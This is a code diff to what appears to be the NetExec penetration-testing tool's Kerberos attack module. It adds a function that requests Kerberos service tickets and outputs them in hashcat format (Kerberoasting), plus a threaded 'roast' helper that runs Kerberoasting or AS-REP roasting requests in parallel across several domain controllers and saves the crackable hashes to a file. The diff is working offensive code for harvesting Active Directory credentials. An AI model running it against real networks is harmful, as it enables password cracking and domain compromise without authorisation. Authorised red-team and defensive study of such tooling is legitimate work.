@@ -1,5 +1,7 @@
+import contextlib
 import random
 from binascii import hexlify, unhexlify
+from concurrent.futures import ThreadPoolExecutor, as_completed
 from datetime import datetime, timedelta
 from os import getenv
 
@@ -14,7 +16,7 @@ from impacket.krb5.asn1 import (
     seq_set_iter,
 )
 from impacket.krb5.ccache import CCache
-from impacket.krb5.kerberosv5 import sendReceive, KerberosError, getKerberosTGT
+from impacket.krb5.kerberosv5 import sendReceive, KerberosError, getKerberosTGT, getKerberosTGS
 from impacket.krb5.types import KerberosTime, Principal
 from impacket.ntlm import compute_lmhash, compute_nthash
 from pyasn1.codec.der import decoder, encoder
@@ -177,7 +179,51 @@ class KerberosAttacks:
         nxc_logger.debug(f"Final TGT: {tgt_data}")
         return tgt_data
 
-    def get_tgt_asroast(self, userName, requestPAC=True):
+    def get_tgs_kerberoasting(self, tgt, username, kdc_host=None):
+        """Requests a service ticket for the user with the TGT of get_tgt_kerberoasting() and returns it in hashcat format"""
+        principal_name = Principal()
+        principal_name.type = constants.PrincipalNameType.NT_MS_PRINCIPAL.value
+        principal_name.components = [f"{self.targetDomain}\\{username}"]
+
+        tgs, _, old_session_key, session_key = getKerberosTGS(
+            principal_name,
+            self.domain,
+            kdc_host if kdc_host else self.kdcHost,
+            tgt["KDC_REP"],
+            tgt["cipher"],
+            tgt["sessionKey"],
+        )
+        return self.output_tgs(tgs, old_session_key, session_key, username, f"{self.targetDomain}/{username}")
+
+    def roast(self, request, usernames, output_file=None, threads=10, kdc_hosts=None):
+        """Calls request(username, kdc_host) for every user with at most `threads` requests in flight, spread round-robin over the KDCs.
+
+        The TGT and session key are shared by the requests (see get_tgs_kerberoasting), only the KDC round-trips run concurrently.
+        Yields (username, hash) as the answers arrive and appends every hash to output_file right away.
+        """
+        kdc_hosts = kdc_hosts if kdc_hosts else [self.kdcHost]
+        with ThreadPoolExecutor(max_workers=max(1, threads)) as executor, open(output_file, "a+") if output_file else contextlib.nullcontext() as fd:
+            futures = {executor.submit(request, username, kdc_hosts[i % len(kdc_hosts)]): username for i, username in enumerate(usernames)}
+            try:
+                for future in as_completed(futures):
+                    username = futures[future]
+                    try:
+                        result = future.result()
+                    except Exception as e:
+                        nxc_logger.debug("Exception:", exc_info=True)
+                        nxc_logger.fail(f"Principal: {self.targetDomain}\\{username} - {e}")
+                        continue
+                    if not result:
+                        continue
+                    if fd:
+                        fd.write(result + "\n")
+                        fd.flush()
+                    yield username, result
+            finally:
+                for future in futures:
+                    future.cancel()
+
+    def get_tgt_asroast(self, userName, kdc_host=None, requestPAC=True):
         client_name = Principal(userName, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
 
         as_req = AS_REQ()
@@ -223,7 +269,7 @@ class KerberosAttacks:
         message = encoder.encode(as_req)
 
         try:
-            r = sendReceive(message, domain, self.kdcHost)
+            r = sendReceive(message, domain, kdc_host if kdc_host else self.kdcHost)
         except KerberosError as e:
             if e.getErrorCode() == constants.ErrorCodes.KDC_ERR_ETYPE_NOSUPP.value:
                 # RC4 not available, OK, let's ask for newer types
@@ -233,7 +279,7 @@ class KerberosAttacks:
                 )
                 seq_set_iter(req_body, "etype", supported_ciphers)
                 message = encoder.encode(as_req)
-                r = sendReceive(message, domain, self.kdcHost)
+                r = sendReceive(message, domain, kdc_host if kdc_host else self.kdcHost)
             elif e.getErrorCode() == constants.ErrorCodes.KDC_ERR_KEY_EXPIRED.value:
                 return "Password of user " + userName + " expired but user doesn't require pre-auth"
             else: